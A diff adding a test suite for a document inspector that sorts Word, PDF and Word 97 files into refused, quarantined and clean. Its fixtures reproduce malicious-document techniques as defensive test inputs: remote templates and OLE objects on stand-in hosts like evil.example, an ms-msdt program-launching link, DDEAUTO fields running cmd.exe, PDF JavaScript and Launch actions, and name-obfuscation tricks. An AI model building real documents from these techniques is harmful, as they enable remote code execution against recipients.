@@ -1,0 +1,357 @@
+/** What the inspection of a document refuses, puts in quarantine and accepts. */
+import { writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { deflateRawSync, deflateSync } from 'node:zlib';
+import { inspectDocument } from '../../../src/receiver/documents/inspect';
+import { compound, doc, docx, pdf, zip } from '../support/sample-documents';
+import { removeTemporary, temporaryDirectory } from '../support/start-receiver';
+
+afterAll(removeTemporary);
+
+/** Returns `refused: <reason>`, the suspicions, or `clean`. */
+async function verdictOf(content: Buffer, extension: string): Promise<string> {
+  const file = path.join(temporaryDirectory(), 'file');
+  writeFileSync(file, content);
+  const verdict = await inspectDocument(file, extension);
+  return verdict.ok ? verdict.suspicions.join(', ') || 'clean' : `refused: ${verdict.reason}`;
+}
+
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
+const rels = (inside: string): string =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`;
+const relation = (type: string, target: string, mode = 'TargetMode="External"'): string =>
+  `<Relationship Id="rId9" Type="${type}" Target="${target}" ${mode}/>`;
+const DOCUMENT_RELS = 'word/_rels/document.xml.rels';
+const withRels = (inside: string, part = DOCUMENT_RELS): Buffer => docx({ [part]: rels(inside) });
+const OLE_OBJECT = `${OFFICE}/oleObject`;
+const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+const CFB_START = Buffer.from('d0cf11e0a1b11ae1', 'hex');
+const body = (inside: string): Buffer =>
+  docx({ 'word/document.xml': `<w:document><w:body>${inside}</w:body></w:document>` });
+const field = (...pieces: string[]): string =>
+  `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText>${piece}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`;
+
+/** A PDF with one compressed object stream, which holds these objects. */
+function pdfWithObjectStream(
+  objects: string[],
+  dictionary = '/Type /ObjStm /Filter /FlateDecode',
+  content?: Buffer,
+): Buffer {
+  let offset = 0;
+  const list = objects.map((object, index) => {
+    const entry = `${index + 10} ${offset}`;
+    offset += object.length + 1;
+    return entry;
+  });
+  const header = `${list.join(' ')} `;
+  const data = content ?? deflateSync(Buffer.from(header + objects.join(' '), 'latin1'));
+  return Buffer.concat([
+    Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n5 0 obj\n<< ${dictionary} /N ${objects.length} `),
+    Buffer.from(`/First ${header.length} /Length ${data.length} >>\nstream\r\n`),
+    data,
+    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'),
+  ]);
+}
+const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
+
+describe('a Word document [R14.5]', () => {
+  it.each<[string, Buffer, string]>([
+    ['an external OLE object', withRels(relation(OLE_OBJECT, 'https://evil.example/x.html!')), 'docx-external'],
+    ['single quotes', withRels(relation(OLE_OBJECT, 'https://x').replaceAll('"', "'")), 'docx-external'],
+    ['spaces around =', withRels(relation(OLE_OBJECT, 'https://x', 'TargetMode = "External"')), 'docx-external'],
+    [
+      'an entity in External',
+      withRels(relation(OLE_OBJECT, 'https://x', 'TargetMode="&#69;xternal"')),
+      'docx-external',
+    ],
+    [
+      'a relationship in UTF-16',
+      docx({ [DOCUMENT_RELS]: utf16(rels(relation(OLE_OBJECT, 'https://x')).replace('UTF-8', 'UTF-16')) }),
+      'docx-external',
+    ],
+    [
+      'a prefix before Relationship',
+      docx({
+        [DOCUMENT_RELS]: rels(relation(OLE_OBJECT, 'https://x')).replace(
+          '<Relationship ',
+          '<r:Relationship xmlns:r="x" ',
+        ),
+      }),
+      'docx-external',
+    ],
+    [
+      'a prefixed attribute that says Internal',
+      withRels(relation(OLE_OBJECT, 'https://x', 'TargetMode="External" xmlns:TargetMode="Internal"')),
+      'docx-external',
+    ],
+    [
+      'capitals in the name of the part',
+      withRels(relation(OLE_OBJECT, 'https://x'), 'word/_RELS/Document.xml.RELS'),
+      'docx-external',
+    ],
+    [
+      'an external part of a header',
+      withRels(relation(`${OFFICE}/image`, 'https://x/pixel.png'), 'word/_rels/header1.xml.rels'),
+      'docx-external',
+    ],
+    [
+      'an external frame',
+      withRels(relation(`${OFFICE}/frame`, '\\\\evil\\x'), 'word/_rels/webSettings.xml.rels'),
+      'docx-external',
+    ],
+    [
+      'a template on the web',
+      withRels(relation(`${OFFICE}/attachedTemplate`, 'http://evil.example/a.dotm')),
+      'docx-template',
+    ],
+    [
+      'a template on a file share',
+      withRels(relation(`${OFFICE}/attachedTemplate`, 'file:///\\\\evil\\a.dotm')),
+      'docx-template',
+    ],
+    ['a template of the strict format', withRels(relation(`${STRICT}/attachedTemplate`, 'https://x')), 'docx-template'],
+    [
+      'a link that starts a program',
+      withRels(relation(`${OFFICE}/hyperlink`, 'ms-msdt:/id PCWDiagnostic')),
+      'docx-external',
+    ],
+    ['an OLE object outside word/embeddings', docx({ 'word/media/image1.png': CFB_START }), 'docx-embedded'],
+    ['an object by its relationship alone', withRels(relation(OLE_OBJECT, 'media/x.bin', '')), 'docx-embedded'],
+    ['a document to import', withRels(relation(`${OFFICE}/aFChunk`, 'a.mht', '')), 'docx-embedded'],
+    ['a document inside', docx({ 'word/media/a.bin': docx() }), 'docx-embedded'],
+    ['a program inside', docx({ 'word/media/a.dat': 'MZ\x90' }), 'docx-embedded'],
+    ['a script inside', docx({ 'word/a.vbs': 'x' }), 'docx-embedded'],
+    ['a field that runs a program', body(field(' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe')), 'docx-field'],
+    ['a simple field that runs a program', body('<w:fldSimple w:instr="DDE excel x"/>'), 'docx-field'],
+    ['elements a million deep', body('<a>'.repeat(1_000_000)), 'docx-unchecked'],
+    ['an element with a million attributes', body(`<a ${'b="" '.repeat(1_000_000)}/>`), 'docx-unchecked'],
+    [
+      'an element with many attributes',
+      body(`<a ${Array.from({ length: 5_000 }, (_, at) => `b${at}=""`).join(' ')}/>`),
+      'docx-unchecked',
+    ],
+    ['relationships that are not XML', docx({ [DOCUMENT_RELS]: '<Relationships' }), 'docx-unchecked'],
+    [
+      'relationships with a document type',
+      docx({ [DOCUMENT_RELS]: `<!DOCTYPE x [<!ENTITY e "External">]>${rels('')}` }),
+      'docx-unchecked',
+    ],
+    [
+      'relationships in UTF-7',
+      docx({ [DOCUMENT_RELS]: '<?xml version="1.0" encoding="utf-7"?><Relationships/>' }),
+      'docx-unchecked',
+    ],
+    [
+      'text that unpacks to 40 MB',
+      docx({
+        'word/document.xml': Buffer.concat([
+          Buffer.from('<w:document>'),
+          Buffer.alloc(40 * 1024 * 1024, 0x20),
+          Buffer.from('</w:document>'),
+        ]),
+      }),
+      'docx-unchecked',
+    ],
+  ])('is put aside when it has %s', async (_what, content, sign) => {
+    expect(await verdictOf(content, 'docx')).toBe(sign);
+  });
+
+  it.each<[string, Buffer, string]>([
+    [
+      'a macro project under another name',
+      withRels(relation('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'x.bin', '')),
+      'macros',
+    ],
+    ['entries that share bytes', overlapping(), 'wrong-content'],
+    ['bytes after its end', Buffer.concat([docx(), Buffer.from('%PDF-1.7 %%EOF')]), 'wrong-content'],
+    ['a part twice, in other case', docx({ 'WORD/document.xml': '<w:document/>' }), 'wrong-content'],
+    ['text that cannot be inflated', damagedText(), 'damaged'],
+    ['a stated size of gigabytes', docx({ 'word/a.xml': 'x' }, { claimedSize: 0x7fffffff }), 'unpacks-too-large'],
+  ])('is refused when it has %s', async (_what, content, reason) => {
+    expect(await verdictOf(content, 'docx')).toBe(`refused: ${reason}`);
+  });
+
+  it.each<[string, Buffer]>([
+    [
+      'links to the web, to mail and to telephones',
+      withRels(
+        ['https://a.example', 'mailto:a@b.example', 'tel:+61', '#x']
+          .map((target) => relation(`${OFFICE}/hyperlink`, target))
+          .join(''),
+      ),
+    ],
+    [
+      'a template on the sender’s own disk',
+      withRels(
+        relation(
+          `${OFFICE}/attachedTemplate`,
+          'file:///C:\\Users\\Ngaio\\AppData\\Roaming\\Microsoft\\Templates\\R%C3%A9sum%C3%A9.dotx',
+        ),
+      ),
+    ],
+    [
+      'a template on a Mac',
+      withRels(relation(`${OFFICE}/attachedTemplate`, 'file:///Users/ngaio/Library/Resume.dotx')),
+    ],
+    [
+      'pictures, fonts and settings',
+      docx({
+        'word/media/image1.png': '\x89PNG\r\n',
+        'word/media/image2.emf': '\x01\0\0\0',
+        'word/fonts/font1.odttf': 'x',
+        'word/settings.xml': '<w:settings/>',
+      }),
+    ],
+    [
+      'page numbers and links as fields',
+      body(
+        field(' PAGE ') +
+          field(' HYPERLINK "https://a.example" ') +
+          field(' INCLUDEPICTURE "https://a.example/x.png" \\* MERGEFORMATINET '),
+      ),
+    ],
+    ['text about DDE', body('<w:t>DDEAUTO was my thesis</w:t>')],
+    ['its main part under another name', wordOnTheWeb()],
+  ])('passes when it has %s', async (_what, content) => {
+    expect(await verdictOf(content, 'docx')).toBe('clean');
+  });
+});
+
+/** Word on the web calls the main part `word/document2.xml`. */
+function wordOnTheWeb(): Buffer {
+  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+  return zip({
+    '[Content_Types].xml': `<Types><Override PartName="/word/document2.xml" ContentType="${type}"/></Types>`,
+    '_rels/.rels': rels(relation(`${OFFICE}/officeDocument`, 'word/document2.xml', '')),
+    'word/document2.xml': '<w:document/>',
+  });
+}
+
+/** Lets the second entry begin inside the first. */
+function overlapping(): Buffer {
+  const content = docx();
+  const directory = content.readUInt32LE(content.length - 6);
+  const second = directory + 46 + content.readUInt16LE(directory + 28);
+  content.writeUInt32LE(10, second + 42);
+  return content;
+}
+
+function damagedText(): Buffer {
+  const text = `<w:document>${'Ngaio Marsh '.repeat(50)}</w:document>`;
+  const content = docx({ 'word/document.xml': text });
+  const packed = deflateRawSync(Buffer.from(text));
+  content.fill(0xff, content.indexOf(packed), content.indexOf(packed) + packed.length);
+  return content;
+}
+
+describe('a PDF [R14.5]', () => {
+  it.each<[string, Buffer, string]>([
+    ['a script in a compressed object', pdfWithObjectStream([SCRIPT]), 'pdf-active'],
+    [
+      'a script in the last of many',
+      pdfWithObjectStream([...Array<string>(50).fill('<< /A 1 >>'), SCRIPT]),
+      'pdf-active',
+    ],
+    ['a hidden name in a compressed object', pdfWithObjectStream(['<< /S /Java#53cript >>']), 'pdf-active'],
+    ['a script after an open string', pdfWithObjectStream(['(open', SCRIPT]), 'pdf-active'],
+    ['a launch action', pdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>']), 'pdf-active'],
+    ['a file inside', pdfWithObjectStream(['<< /Names << /EmbeddedFiles 3 0 R >> >>']), 'pdf-active'],
+    ['a link into another machine', pdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) >>'), 'pdf-active'],
+    [
+      'a hidden type of its object stream',
+      pdfWithObjectStream([SCRIPT], '/Type /Obj#53tm /Filter /FlateDecode'),
+      'pdf-active',
+    ],
+    ['an object stream without a type', pdfWithObjectStream([SCRIPT], '/Filter /FlateDecode'), 'pdf-active'],
+    [
+      'a plain object stream',
+      pdfWithObjectStream([SCRIPT], '/Type /ObjStm', Buffer.from(`10 0 ${SCRIPT}`)),
+      'pdf-active',
+    ],
+    ['a comment inside an action', pdf('/OpenAction << /S%x\n/JavaScript >>'), 'pdf-active'],
+    ['another compression', pdfWithObjectStream([SCRIPT], '/Type /ObjStm /Filter /LZWDecode'), 'pdf-unchecked'],
+    [
+      'two compressions',
+      pdfWithObjectStream([SCRIPT], '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]'),
+      'pdf-unchecked',
+    ],
+    [
+      'an object stream of 100 MB',
+      pdfWithObjectStream(
+        ['1'],
+        '/Type /ObjStm /Filter /FlateDecode',
+        deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20)),
+      ),
+      'pdf-unchecked',
+    ],
+    [
+      'a damaged object stream',
+      pdfWithObjectStream(['1'], '/Type /ObjStm /Filter /FlateDecode', Buffer.from('nothing')),
+      'pdf-unchecked',
+    ],
+    ['objects that are read over and over', repeatedObjects(), 'pdf-unchecked'],
+  ])('is put aside when it has %s', async (_what, content, sign) => {
+    expect(await verdictOf(content, 'pdf')).toBe(sign);
+  });
+
+  it('is refused when its encryption has a hidden name', async () => {
+    const content = Buffer.from(pdf().toString('latin1').replace('/Root', '/Encr#79pt 5 0 R /Root'), 'latin1');
+    expect(await verdictOf(content, 'pdf')).toBe('refused: encrypted');
+  });
+
+  it.each<[string, Buffer]>([
+    ['text about scripts', pdfWithObjectStream(['<< /Title (HTML/CSS/JavaScript and /Launch) /Alt <4a61> >>'])],
+    [
+      'plain text about scripts',
+      Buffer.from(
+        pdf()
+          .toString('latin1')
+          .replace(
+            'trailer',
+            '9 0 obj\n<< /Length 60 >>\nstream\nBT (React/JavaScript /JavaScript) Tj ET\nendstream\nendobj\n<rdf:li>HTML/JavaScript</rdf:li>\ntrailer',
+          ),
+        'latin1',
+      ),
+    ],
+    [
+      'an outline, links and a tree of its structure',
+      pdfWithObjectStream([
+        '<< /Type /Catalog /OpenAction [3 0 R /Fit] >>',
+        '<< /S /URI /URI (https://a.example) >>',
+        '<< /Type /StructElem /S /P >>',
+      ]),
+    ],
+  ])('passes when it has %s', async (_what, content) => {
+    expect(await verdictOf(content, 'pdf')).toBe('clean');
+  });
+});
+
+/** Each object begins with a string that never ends, so each is as long as the rest of the file. */
+function repeatedObjects(): Buffer {
+  return Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('1 0 obj (\n'.repeat(300_000)), Buffer.from('\n%%EOF')]);
+}
+
+describe('a document of Word 97 to 2003 [R14.5]', () => {
+  it.each<[string, Buffer, string]>([
+    ['an object', doc({ 'ObjectPool/_1/\u0001Ole10Native': Buffer.alloc(10) }), 'doc-embedded'],
+    [
+      'a field that runs a program',
+      doc({ Text: Buffer.from('\x13 DDEAUTO c:\\\\cmd.exe \x15 '.padEnd(5_000)) }),
+      'doc-field',
+    ],
+    [
+      'a stream so short that it is stored with others',
+      compound({
+        A: Buffer.alloc(2_000),
+        Big: Buffer.alloc(60_000, 0xff),
+        WordDocument: Buffer.from('a5ec'.padEnd(1_200, '0'), 'hex'),
+      }),
+      'clean',
+    ],
+    ['nothing of this', doc(), 'clean'],
+  ])('gets the right signs when it has %s', async (_what, content, sign) => {
+    expect(await verdictOf(content, 'doc')).toBe(sign);
+  });
+});
